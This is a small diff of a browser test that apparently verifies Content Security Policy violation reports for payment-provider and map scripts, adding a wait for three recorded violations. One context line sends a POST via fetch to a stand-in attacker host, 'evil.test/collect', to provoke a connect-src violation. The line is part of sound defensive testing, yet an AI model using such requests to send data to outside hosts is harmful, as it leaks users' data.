@@ -190,6 +190,7 @@ describe('the scripts of the payment provider and of the maps, under the page’
       fetch('https://evil.test/collect', { method: 'POST' }).catch(() => undefined);
     });
 
+    await page.waitForFunction(() => (window as Watched).violations?.length === 3);
     expect((await violationsOf(visitor))?.toSorted()).toEqual([
       'connect-src https://evil.test/collect',
       'frame-src https://m.stripe.network',
